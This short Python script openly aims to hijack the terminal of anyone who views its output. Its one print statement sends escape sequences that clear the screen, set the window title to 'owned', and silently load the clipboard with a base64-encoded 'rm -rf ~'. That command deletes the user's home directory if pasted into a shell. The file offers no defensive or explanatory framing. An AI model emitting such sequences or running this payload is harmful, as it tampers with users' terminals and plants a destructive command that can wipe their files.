"""Tries to take over the terminal of whoever looks: clears it, sets its title, fills the clipboard."""

print("\x1b[2J\x1b[1;1H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07all that is left is this line")
